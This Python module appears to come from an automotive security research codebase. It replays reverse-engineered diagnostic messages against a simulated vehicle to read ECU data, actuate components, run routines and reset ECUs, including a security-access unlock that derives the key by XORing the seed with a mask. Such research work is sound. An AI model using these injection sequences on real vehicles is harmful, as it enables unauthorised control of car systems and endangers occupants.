"""Attack replay (§9.3 / Tab. 13).

Demonstrates that reverse-engineered diagnostic messages are sufficient to
read data, actuate components and reset ECUs on a *running* vehicle: an
attacker node (a compromised OBD dongle / T-Box) injects the recovered
request messages and checks the vehicle's reaction.

``AttackReplayer`` works from raw payload bytes — exactly what DP-Reverser
outputs — with no access to the vehicle's internals; success is judged by
the response on the bus plus the actuator/routine action logs that a real
experimenter would observe physically (doors unlocking, wipers moving).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from ..diagnostics.messages import is_negative_response
from ..vehicle import Vehicle


@dataclass
class AttackResult:
    """Outcome of injecting one diagnostic message (or sequence)."""

    description: str
    messages: List[str]  # hex payloads injected
    responses: List[str]
    success: bool
    observed_effect: str


class AttackReplayer:
    """Injects reverse-engineered messages into a running vehicle."""

    def __init__(self, vehicle: Vehicle, attacker_name: str = "obd-dongle") -> None:
        self.vehicle = vehicle
        self.attacker_name = attacker_name
        self._endpoints = {}

    def _endpoint(self, ecu_name: str):
        if ecu_name not in self._endpoints:
            self._endpoints[ecu_name] = self.vehicle.tester_endpoint(
                ecu_name, tester=self.attacker_name
            )
        return self._endpoints[ecu_name]

    def inject(self, ecu_name: str, payload: bytes) -> Optional[bytes]:
        """Send one payload and return the ECU's final response.

        Interim ``responsePending`` (NRC 0x78) answers are drained, as any
        real injection tool must.
        """
        endpoint = self._endpoint(ecu_name)
        endpoint.send(payload)
        response = endpoint.receive()
        retries = 0
        while (
            response is not None
            and len(response) >= 3
            and response[0] == 0x7F
            and response[2] == 0x78
            and retries < 8
        ):
            response = endpoint.receive()
            retries += 1
        return response

    # ------------------------------------------------------------- primitives

    def read_data(self, ecu_name: str, payload: bytes, description: str) -> AttackResult:
        """Replay a read request (e.g. ``22 DB E5`` — read brake pressure)."""
        response = self.inject(ecu_name, payload)
        ok = response is not None and not is_negative_response(response)
        return AttackResult(
            description=description,
            messages=[payload.hex(" ").upper()],
            responses=[response.hex(" ").upper() if response else "<none>"],
            success=ok,
            observed_effect=f"read {len(response) - 1} data bytes" if ok else "rejected",
        )

    def control_component(
        self,
        ecu_name: str,
        actuator_id: int,
        control_state: bytes,
        description: str,
        service: int,
        unlock_mask: Optional[int] = None,
    ) -> AttackResult:
        """Replay the full three-message IO-control procedure.

        The replayed sequence is exactly what ECR analysis recovered:
        freeze (0x02) → short-term adjustment (0x03 + state) → return
        control (0x00), preceded by the session/security handshake when
        the target ECU demands it.
        """
        messages: List[bytes] = []
        if service == 0x2F:
            did = actuator_id.to_bytes(2, "big")
            messages = [
                bytes([0x2F]) + did + bytes([0x02]),
                bytes([0x2F]) + did + bytes([0x03]) + control_state,
                bytes([0x2F]) + did + bytes([0x00]),
            ]
        else:
            messages = [
                bytes([0x30, actuator_id, 0x02]),
                bytes([0x30, actuator_id, 0x03]) + control_state,
                bytes([0x30, actuator_id, 0x00]),
            ]
        if unlock_mask is not None:
            self._unlock(ecu_name, unlock_mask)
        responses: List[Optional[bytes]] = []
        for message in messages:
            responses.append(self.inject(ecu_name, message))
            self.vehicle.clock.advance(0.3)
        ok = all(r is not None and not is_negative_response(r) for r in responses)
        actuator = self._find_actuator(ecu_name, actuator_id)
        effect = ""
        if actuator is not None and actuator.adjustments():
            effect = f"{actuator.name} actuated ({len(actuator.adjustments())} adjustments)"
        return AttackResult(
            description=description,
            messages=[m.hex(" ").upper() for m in messages],
            responses=[r.hex(" ").upper() if r else "<none>" for r in responses],
            success=ok and bool(effect),
            observed_effect=effect or "no physical effect observed",
        )

    def run_routine(
        self, ecu_name: str, routine_id: int, description: str
    ) -> AttackResult:
        """Replay a BMW-style routine-control actuation (``31 01 <id>``)."""
        payload = bytes([0x31, 0x01, routine_id])
        response = self.inject(ecu_name, payload)
        ok = response is not None and not is_negative_response(response)
        ecu = self.vehicle.ecu(ecu_name)
        routine = ecu.routines.get(routine_id)
        effect = ""
        if routine is not None and routine.runs:
            effect = f"{routine.name} started"
        return AttackResult(
            description=description,
            messages=[payload.hex(" ").upper()],
            responses=[response.hex(" ").upper() if response else "<none>"],
            success=ok and bool(effect),
            observed_effect=effect or "no effect",
        )

    def reset_ecu(self, ecu_name: str, description: str) -> AttackResult:
        """Replay an ECU reset (``11 01``)."""
        ecu = self.vehicle.ecu(ecu_name)
        before = ecu.reset_count
        response = self.inject(ecu_name, bytes([0x11, 0x01]))
        ok = response is not None and not is_negative_response(response)
        resetted = ecu.reset_count > before
        return AttackResult(
            description=description,
            messages=["11 01"],
            responses=[response.hex(" ").upper() if response else "<none>"],
            success=ok and resetted,
            observed_effect=f"{ecu_name} reset" if resetted else "no reset",
        )

    # --------------------------------------------------------------- helpers

    def _unlock(self, ecu_name: str, mask: int) -> bool:
        response = self.inject(ecu_name, bytes([0x10, 0x03]))
        response = self.inject(ecu_name, bytes([0x27, 0x01]))
        if response is None or is_negative_response(response) or len(response) < 4:
            return False
        seed = int.from_bytes(response[2:4], "big")
        if seed == 0:
            return True
        key = (seed ^ mask) & 0xFFFF
        response = self.inject(ecu_name, bytes([0x27, 0x02]) + key.to_bytes(2, "big"))
        return response is not None and not is_negative_response(response)

    def _find_actuator(self, ecu_name: str, actuator_id: int):
        ecu = self.vehicle.ecu(ecu_name)
        return ecu.actuators.get(actuator_id)
